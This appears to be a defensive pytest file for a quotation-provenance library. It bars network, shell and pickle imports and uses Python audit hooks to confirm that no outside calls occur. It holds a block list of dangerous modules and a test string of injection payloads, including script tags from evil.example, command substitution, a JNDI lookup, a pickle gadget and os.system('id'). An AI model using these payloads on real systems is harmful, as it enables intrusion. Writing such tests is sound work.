"""What the library never does by itself: run code it was given, unpickle, call a shell, open a connection.

`.github/SECURITY.md` says what each kind of hostile input can do and what stops it.
"""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1] / "provenance"
PAPERS = sorted(path for path in ROOT.rglob("*.py") if path.name != "_generate.py")  # writes tables, for maintainers

BARRED = {
    "ctypes", "dbm", "ftplib", "http", "imaplib", "marshal", "multiprocessing", "pickle", "poplib", "pty", "requests",
    "runpy", "shelve", "smtplib", "socket", "socketserver", "ssl", "subprocess", "telnetlib", "urllib.request",
    "webbrowser", "xml.dom", "xml.etree", "xml.sax", "xmlrpc", "yaml",
}  # fmt: skip
"""Modules that nothing here imports; ``urllib.parse`` only takes links apart."""

ON_REQUEST = {"parallel.py": {"multiprocessing"}}
"""What one file may import: workers are processes of this same program, started where the caller asks for them."""

CALLS = {"eval", "exec", "compile", "__import__", "breakpoint"}
BY_NAME = {"cli/policies.py", "cli/app.py", "__init__.py"}
"""Where a module is imported by name: a user's own rules, named on the command line; the rooms of two fixed tables."""


@pytest.mark.parametrize("path", PAPERS, ids=lambda path: str(path.relative_to(ROOT)))
def test_no_file_reaches_out(path: Path) -> None:
    """No file imports what would, and none evaluates text."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    here = path.relative_to(ROOT).as_posix()
    for node in ast.walk(tree):
        names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
        if isinstance(node, ast.ImportFrom) and node.module:
            names = [node.module]
        for name in names:
            roots = {".".join(name.split(".")[:depth]) for depth in (1, 2)}
            assert not roots & BARRED - ON_REQUEST.get(here, set()), f"{here} imports {name}"
        if isinstance(node, ast.Call):
            called = node.func
            if isinstance(called, ast.Name):
                assert called.id not in CALLS, f"{here} calls {called.id}"
                assert called.id != "import_module" or here in BY_NAME, f"{here} imports by name"
            if isinstance(called, ast.Attribute) and isinstance(called.value, ast.Name):
                assert (called.value.id, called.attr) not in {("os", "system"), ("os", "popen")}, (
                    f"{here} calls a shell"
                )
                assert called.value.id != "os" or not called.attr.startswith(("exec", "spawn")), (
                    f"{here} starts programs"
                )


WATCHED = """
import json, sys, tempfile
from pathlib import Path

seen = []
OUT = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "pickle.", "urllib.",
       "http.", "ftplib.", "smtplib.", "webbrowser.", "ctypes.")
INSIDE = {"socket.__new__"}  # a name looked up by an import makes none


def watch(event, arguments):
    if event.startswith(OUT):
        seen.append((event, repr(arguments)[:120]))


import provenance
from provenance import audit, compare, cite, export, load, open_store, read, said, to_json, from_json, trace, Text
from provenance import EXPORTS
from provenance.reports import REPORTS

sys.addaudithook(watch)
HOSTILE = (
    '<script src="https://evil.example/x.js"></script> <img src=x onerror=alert(1)> file:///etc/passwd '
    'javascript:alert(1) $(touch /tmp/owned) `id` ; drop table hop; -- ${jndi:ldap://evil.example/a} '
    '__import__("os").system("id") cos\\nsystem\\n(S"id"\\ntR.'
)
chain = (
    said("Нас трое. " + HOSTILE, "ru", by="Ilya Marenko <script>", url="https://evil.example/1?q=<script>")
    .translated("There are four of us. " + HOSTILE, "en", outlet='Harbour "Daily" <b>', title="javascript:alert(1)")
)
report = audit(chain)
for name in sorted(REPORTS):
    REPORTS[name](report)
for name in sorted(EXPORTS):
    try:
        document = export(chain, name).content
    except provenance.MissingExtraError:
        continue
    try:
        load(document)
    except provenance.ProvenanceError:
        pass
cite(chain)
from_json(to_json(chain))
compare(Text(HOSTILE, "en"), Text(HOSTILE, "de"))
for draft in read(f'"We are ready," Ilya Marenko said. {HOSTILE} Read the original: https://evil.example/a').chains():
    audit(draft)
with tempfile.TemporaryDirectory() as folder, open_store(Path(folder) / "quotes.db") as store:
    store.put(chain)
    trace("There are four of us", store)
    assert store.verify().ok
print(json.dumps(seen))
"""


def test_nothing_leaves_the_process(tmp_path: Path) -> None:
    """With Python's own audit events (PEP 578) watched, hostile words go through every part and nothing is reached for."""
    done = subprocess.run(
        [sys.executable, "-X", "utf8", "-c", WATCHED], cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == []
    assert list(tmp_path.iterdir()) == []
